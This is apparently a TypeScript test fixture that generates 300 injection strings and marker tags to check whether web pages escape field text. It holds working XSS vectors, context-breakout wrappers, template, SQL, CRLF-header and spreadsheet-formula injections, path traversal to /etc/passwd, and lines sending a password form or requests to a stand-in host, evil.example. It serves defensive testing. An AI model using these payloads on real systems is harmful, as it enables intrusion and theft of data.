/** Lists texts that become markup, script, an address or a formula where the code forgets to escape them. */

/** Each leaves a mark that `injectedIn` finds: an element, an attribute, or a dialog. */
const vectors = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a data-injected href="javascript:alert(1)">press</a>',
  '<b data-injected>bold</b>',
  '<x-injected></x-injected>',
  '<style data-injected>*{display:none}</style>',
  '<meta data-injected http-equiv=refresh content="0;url=https://evil.example">',
  '<base data-injected href="https://evil.example/">',
  '<form data-injected action="https://evil.example"><input name=password></form>',
  '<link data-injected rel=stylesheet href="https://evil.example/a.css">',
  '<object data-injected data="https://evil.example"></object>',
  '<math data-injected><mtext></mtext></math>',
  '<details open data-injected ontoggle=alert(1)>',
  '<marquee data-injected onstart=alert(1)>x</marquee>',
  '<video data-injected><source onerror=alert(1)></video>',
];
/** What can surround a text where it is written. */
const ways: ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'>${vector}`,
  (vector) => `</title>${vector}`,
  (vector) => `</textarea>${vector}`,
  (vector) => `</script>${vector}`,
  (vector) => `</style>${vector}`,
  (vector) => `--> ${vector}`,
  (vector) => `]]>${vector}`,
  (vector) => vector.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (vector) => vector.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (vector) => vector.replaceAll('<', '&#x3c;'),
  (vector) => vector.replaceAll('<', '＜').replaceAll('>', '＞'),
  (vector) => vector.replace('<', '<\u00ad').replaceAll(' ', '/'),
];
const others = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.example/',
  '" onmouseover="alert(1)" data-injected="',
  "' autofocus onfocus='alert(1)' data-injected='",
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{% raw %}{{7*7}}',
  '`${alert(1)}`',
  "';alert(1)//",
  '";alert(1)//',
  '\\";alert(1)//',
  '\u2028alert(1)\u2029',
  '=cmd|calc!A1',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '[press](javascript:alert(1))',
  '![x](https://evil.example/a.png)',
  '<!--',
  '<![CDATA[',
  '</body></html>',
  '\u202egnp.exe',
  '\u2066\u202dabc\u2069',
  'a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301',
  '\u200b\u200c\u200d\ufeff',
  '𝓣𝓮𝔁𝓽 ﷽﷽﷽',
  '🏳️‍🌈👩‍👩‍👧‍👦',
  'İstanbul ſharp ﬁne',
  '__proto__',
  'constructor',
  '\r\nBcc: all@evil.example',
  '\r\nSet-Cookie: a=b',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '%0d%0aLocation: https://evil.example',
  "'; drop table member; --",
  "1' or '1'='1' --",
  '1; select pg_sleep(9)',
  '$$; select 1; $$',
  '../../../etc/passwd',
  'NULL',
];

/** All of them, the most dangerous first: 300. */
export const payloads: readonly string[] = [...others, ...ways.flatMap((way) => vectors.map(way))].slice(
  0,
  300,
);

/** A field's text: the payload and its origin. Pages show the end of it as text. */
export const marked = (payload: number, column: number): string =>
  `${payloads[payload % payloads.length]} q${payload}x${column}q`;
/** Finds the columns whose text a page shows. */
export const marks = /q(\d+)x(\d+)q/g;
